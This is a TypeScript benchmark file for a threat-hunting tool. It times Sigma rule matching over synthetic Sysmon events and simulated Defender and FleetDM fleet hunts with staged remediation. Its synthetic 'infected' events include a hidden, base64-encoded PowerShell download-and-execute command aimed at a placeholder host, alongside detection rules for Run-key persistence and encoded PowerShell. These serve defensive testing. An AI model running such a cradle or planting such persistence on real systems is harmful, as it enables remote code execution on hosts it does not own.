import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { compileSigmaRule, huntFromSigma, huntQueries, parseSigmaRule, type SigmaRule, SigmaRuleSet } from '../src/analyzers/index.ts';
import { HuntRuns, openRuntime } from '../src/app/index.ts';
import { createLogger, loadConfig } from '../src/core/index.ts';
import defender from '../src/integrations/defender/index.ts';
import fleetdm from '../src/integrations/fleetdm/index.ts';
import { createIntegrationInstance } from '../src/integrations/sdk/index.ts';
import {
  createFleet,
  defenderHandler,
  EdrBehaviour,
  fleetDmHandler,
  identityPlatformHandler,
  SIMULATOR_CLIENT_ID,
  SIMULATOR_CLIENT_SECRET,
  SIMULATOR_FLEET_API_TOKEN,
  SIMULATOR_TENANT_ID,
  startSimulator,
  TokenIssuer,
} from '../src/lab/index.ts';
import { emit, note } from './harness.ts';

/**
 * Hunting: Sigma local evaluation rate over realistic Sysmon events — registry value sets (EventID 13) under
 * Run keys and the rest of the registry, and process creations (EventID 1) — for one Run-key rule and for a
 * set of 100 rules sharing each event (registry and process rules: contains/endswith lists, windash,
 * base64offset, regexes); and one Defender advanced hunting query for the Run-key rule over a simulated
 * 10,000-endpoint fleet (100 infected) through the connector, with 20 ms API latency. Staged remediation
 * figures come with the remediation work.
 */
const SUITE = 'hunt';
const EVENTS = Number(process.env.RIPOSTE_BENCH_HUNT_EVENTS ?? 200_000);
const ENDPOINTS = Number(process.env.RIPOSTE_BENCH_HUNT_ENDPOINTS ?? 10_000);

const RUN_KEY_RULE = `title: Run key value pointing to a user-writable folder
logsource:
    category: registry_set
    product: windows
detection:
    selection_key:
        TargetObject|contains:
            - '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\'
            - '\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\'
            - '\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\'
    selection_data:
        Details|contains:
            - '\\AppData\\Roaming\\'
            - '\\AppData\\Local\\Temp\\'
            - '\\Windows\\Temp\\'
            - '%APPDATA%'
            - '%TEMP%'
    filter_onedrive:
        Details|endswith: '\\Microsoft\\OneDrive\\OneDrive.exe" /background'
    condition: all of selection_* and not 1 of filter_*
tags:
    - attack.t1547.001
`;

/** A deterministic pseudo-random sequence, so every run measures the same events. */
function lcg(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
  'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1',
  'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Features',
  'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs',
  'HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager',
  'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon',
  'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Classes\\ms-settings\\shell\\open\\command',
];
const BENIGN_DATA = [
  'C:\\Program Files\\Windows Defender\\MSASCuiL.exe',
  'DWORD (0x00000001)',
  '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
  'C:\\Windows\\system32\\SecurityHealthSystray.exe',
  'Binary Data',
  'QWORD (0x00000000-0x5f5e1000)',
];
const IMAGES = [
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\reg.exe',
];

function makeEvents(n: number): Array<Record<string, unknown>> {
  const random = lcg(42);
  const pick = <T>(list: T[]) => list[Math.floor(random() * list.length)] as T;
  const events: Array<Record<string, unknown>> = [];
  for (let i = 0; i < n; i++) {
    const r = random();
    if (r < 0.7) {
      const infected = random() < 0.001;
      const key = infected ? pick(KEYS.slice(0, 2)) : pick(KEYS);
      events.push({
        EventID: 13,
        EventType: 'SetValue',
        UtcTime: '2026-11-28 04:00:00.000',
        ProcessGuid: `{${i.toString(16).padStart(8, '0')}-6a1b-6745-0b00-000000000f00}`,
        ProcessId: 1000 + (i % 5000),
        Image: pick(IMAGES),
        TargetObject: `${key}\\${infected ? 'OneDriveUpdate' : `value${i % 97}`}`,
        Details: infected ? 'C:\\Users\\bob\\AppData\\Roaming\\odu\\odu.exe' : pick(BENIGN_DATA),
        User: 'CONTOSO\\bob',
      });
    } else {
      const encoded = random() < 0.002;
      events.push({
        EventID: 1,
        UtcTime: '2026-11-28 04:00:00.000',
        ProcessId: 2000 + (i % 5000),
        Image: encoded ? 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' : pick(IMAGES),
        CommandLine: encoded
          ? `powershell.exe -nop -w hidden -enc ${Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://x")', 'utf16le').toString('base64')}`
          : `${pick(IMAGES)} -k netsvcs -p -s Schedule`,
        ParentImage: pick(IMAGES),
        User: 'CONTOSO\\bob',
        IntegrityLevel: 'Medium',
      });
    }
  }
  return events;
}

/** 100 rules in the shapes SigmaHQ rules take: the Run-key rule, value/key IOCs, process rules with modifiers. */
function makeRules(): SigmaRule[] {
  const rules = [parseSigmaRule(RUN_KEY_RULE)];
  for (let i = 0; rules.length < 100; i++) {
    const kind = i % 5;
    let text: string;
    if (kind === 0) {
      text = `title: Run value ${i}\nlogsource: {category: registry_set, product: windows}\ndetection:\n    s:\n        TargetObject|endswith: '\\CurrentVersion\\Run\\implant${i}'\n    condition: s\n`;
    } else if (kind === 1) {
      text = `title: Key ${i}\nlogsource: {category: registry_set, product: windows}\ndetection:\n    s:\n        TargetObject|contains: '\\Software\\Vendor${i}\\'\n        Details|contains:\n            - 'cmd.exe'\n            - 'powershell'\n    filter:\n        Image|endswith: '\\msiexec.exe'\n    condition: s and not filter\n`;
    } else if (kind === 2) {
      text = `title: Encoded ${i}\nlogsource: {category: process_creation, product: windows}\ndetection:\n    s:\n        Image|endswith: '\\powershell.exe'\n        CommandLine|windash|contains: ' -enc${i % 3 === 0 ? 'odedcommand' : ''} '\n    condition: s\n`;
    } else if (kind === 3) {
      text = `title: Base64 ${i}\nlogsource: {category: process_creation, product: windows}\ndetection:\n    s:\n        CommandLine|wide|base64offset|contains: 'DownloadString${i}'\n    condition: s\n`;
    } else {
      text = `title: Regex ${i}\nlogsource: {category: registry_set, product: windows}\ndetection:\n    s:\n        EventType: SetValue\n        Details|re|i: '^c:\\\\users\\\\[^\\\\]+\\\\appdata\\\\roaming\\\\x${i}[a-z]*\\.exe$'\n    condition: s\n`;
    }
    rules.push(parseSigmaRule(text));
  }
  return rules;
}

function measure(
  label: string,
  events: Array<Record<string, unknown>>,
  evaluate: (event: Record<string, unknown>) => number,
): { perSecond: number; hits: number } {
  // A warm-up pass lets V8 optimise the closures before the measured pass.
  for (let i = 0; i < Math.min(events.length, 20_000); i++) evaluate(events[i] as Record<string, unknown>);
  let hits = 0;
  const started = performance.now();
  for (const event of events) hits += evaluate(event);
  const seconds = (performance.now() - started) / 1000;
  note(`${label}: ${hits} hits in ${events.length} events, ${seconds.toFixed(2)} s`);
  return { perSecond: events.length / seconds, hits };
}

export async function run(): Promise<void> {
  const events = makeEvents(EVENTS);
  const one = compileSigmaRule(parseSigmaRule(RUN_KEY_RULE));
  const single = measure('one rule', events, (e) => (one.matches(e) ? 1 : 0));
  emit({ suite: SUITE, metric: 'sigma_events_per_s_1_rule', value: single.perSecond, unit: '1/s', n: events.length, hits: single.hits });

  const set = new SigmaRuleSet(makeRules());
  const many = measure('100 rules', events, (e) => set.matching(e).length);
  emit({
    suite: SUITE,
    metric: 'sigma_events_per_s_100_rules',
    value: many.perSecond,
    unit: '1/s',
    n: events.length,
    rules: set.rules.length,
    hits: many.hits,
  });
  emit({
    suite: SUITE,
    metric: 'sigma_rule_evaluations_per_s_100_rules',
    value: many.perSecond * set.rules.length,
    unit: '1/s',
    n: events.length * set.rules.length,
  });

  await defenderHunt();
  await huntAndRemediate();
}

/**
 * Hunt + staged remediation over 10,000 endpoints through the Fleet connector and simulator (20 ms per
 * call, the connector's declared 50 requests/s): hosts listed in pages, the osquery SQL as live queries in
 * chunks of 500, four in flight; offline hosts get one retry pass; evidence on one case (SQLite); then the
 * infected online hosts remediated by script in waves (canary, 10%, rest) with the critical server's wave
 * approved at once, each wave verified by re-query; the run is durable (view, per-host step ledger and lease
 * in the SQLite store). Peak RSS is sampled every 50 ms.
 */
async function huntAndRemediate(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'riposte-bench-hunt-'));
  const fleet = createFleet({ size: ENDPOINTS, seed: 2026, infected: 100 });
  const sim = await startSimulator(fleetDmHandler(fleet, new EdrBehaviour()), { latencyMs: 20 });
  const config = loadConfig({ env: {}, cwd: dir, overrides: { 'log.level': 'silent', data_dir: join(dir, 'data') } });
  const runtime = await openRuntime(config, createLogger({ level: 'silent' }), { env: { RIPOSTE_MASTER_KEY: 'ab'.repeat(32) }, announce: () => {} });
  let peak = process.memoryUsage().rss;
  const sampler = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss);
  }, 50);
  try {
    const instance = createIntegrationInstance(
      fleetdm,
      { name: 'fleet', config: { baseUrl: sim.url, pollIntervalMs: 50 }, secrets: { apiToken: SIMULATOR_FLEET_API_TOKEN } },
      { guard: { allow: ['127.0.0.1'] }, timeoutMs: 60_000 },
    );
    // Durable, as `riposte serve` runs them: the view, each host command on the step ledger, the lease.
    const hunts = new HuntRuns({
      cases: runtime.cases,
      logger: runtime.logger,
      criticality: async (h) => fleet.endpoint(h)?.criticality,
      store: runtime.store,
    });
    const started = performance.now();
    const view = await hunts.run(huntFromSigma(RUN_KEY_RULE), { edr: instance, retryIntervalMs: 200, expiresInMs: 300 });
    const huntMs = performance.now() - started;
    const remediation = hunts.remediate(view.id, { concurrency: 16 });
    const approver = setInterval(() => {
      const waiting = hunts.get(view.id).remediation.waves.find((w) => w.status === 'waiting_approval');
      if (waiting)
        void hunts
          .approve(view.id, waiting.index, { kind: 'user', id: 'bench-a', name: 'a' })
          .then(() => hunts.approve(view.id, waiting.index, { kind: 'user', id: 'bench-b', name: 'b' }));
    }, 20);
    const done = await remediation;
    clearInterval(approver);
    await hunts.stop();
    const totalMs = performance.now() - started;
    const verified = done.remediation.waves.reduce((n, w) => n + w.hosts.filter((h) => h.status === 'verified').length, 0);
    note(
      `fleet hunt: ${view.progress.hosts_hit} hosts hit of ${view.progress.targeted} (${view.progress.pending} offline) in ${huntMs.toFixed(0)} ms; remediation ${done.remediation.status}: ${done.remediation.message}`,
    );
    emit({ suite: SUITE, metric: 'fleet_hunt_ms', value: huntMs, unit: 'ms', n: ENDPOINTS, hosts_hit: view.progress.hosts_hit, api_latency_ms: 20 });
    emit({
      suite: SUITE,
      metric: 'hunt_and_staged_remediation_ms',
      value: totalMs,
      unit: 'ms',
      n: ENDPOINTS,
      infected: 100,
      remediated_verified: verified,
      waves: done.remediation.waves.map((w) => w.hosts.length).join('/'),
      api_latency_ms: 20,
      rate_limit: '50/s (fleetdm connector)',
    });
    emit({ suite: SUITE, metric: 'hunt_peak_rss_mb', value: peak / 1048576, unit: 'MB', n: ENDPOINTS });
  } finally {
    clearInterval(sampler);
    await sim.close();
    await runtime.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

async function defenderHunt(): Promise<void> {
  const built = performance.now();
  const fleet = createFleet({ size: ENDPOINTS, seed: 2026, infected: 100 });
  const fleetMs = performance.now() - built;
  const issuer = new TokenIssuer();
  const login = await startSimulator(identityPlatformHandler(issuer), { latencyMs: 20 });
  const api = await startSimulator(defenderHandler(fleet, issuer), { latencyMs: 20 });
  try {
    const mde = createIntegrationInstance(
      defender,
      {
        name: 'mde',
        config: { baseUrl: api.url, loginUrl: login.url, tenantId: SIMULATOR_TENANT_ID, clientId: SIMULATOR_CLIENT_ID },
        secrets: { clientSecret: SIMULATOR_CLIENT_SECRET },
      },
      { guard: { allow: ['127.0.0.1'] }, timeoutMs: 60_000 },
    );
    const kql = huntQueries(huntFromSigma(RUN_KEY_RULE)).find((q) => q.target === 'kql') as { query: string };
    const started = performance.now();
    const out = (await mde.run('advanced_hunting', { query: kql.query }, { idempotencyKey: 'bench' })) as { results: Array<Record<string, unknown>> };
    const ms = performance.now() - started;
    const devices = new Set(out.results.map((r) => r.DeviceName)).size;
    note(`defender hunt: ${out.results.length} rows on ${devices} devices of ${ENDPOINTS} (fleet built in ${fleetMs.toFixed(0)} ms)`);
    emit({
      suite: SUITE,
      metric: 'defender_hunt_ms',
      value: ms,
      unit: 'ms',
      n: ENDPOINTS,
      infected_found: devices,
      api_latency_ms: 20,
      includes: 'token + one advanced hunting query',
    });
    emit({ suite: SUITE, metric: 'rss_mb', value: process.memoryUsage().rss / 1048576, unit: 'MB', n: ENDPOINTS });
  } finally {
    await login.close();
    await api.close();
  }
}
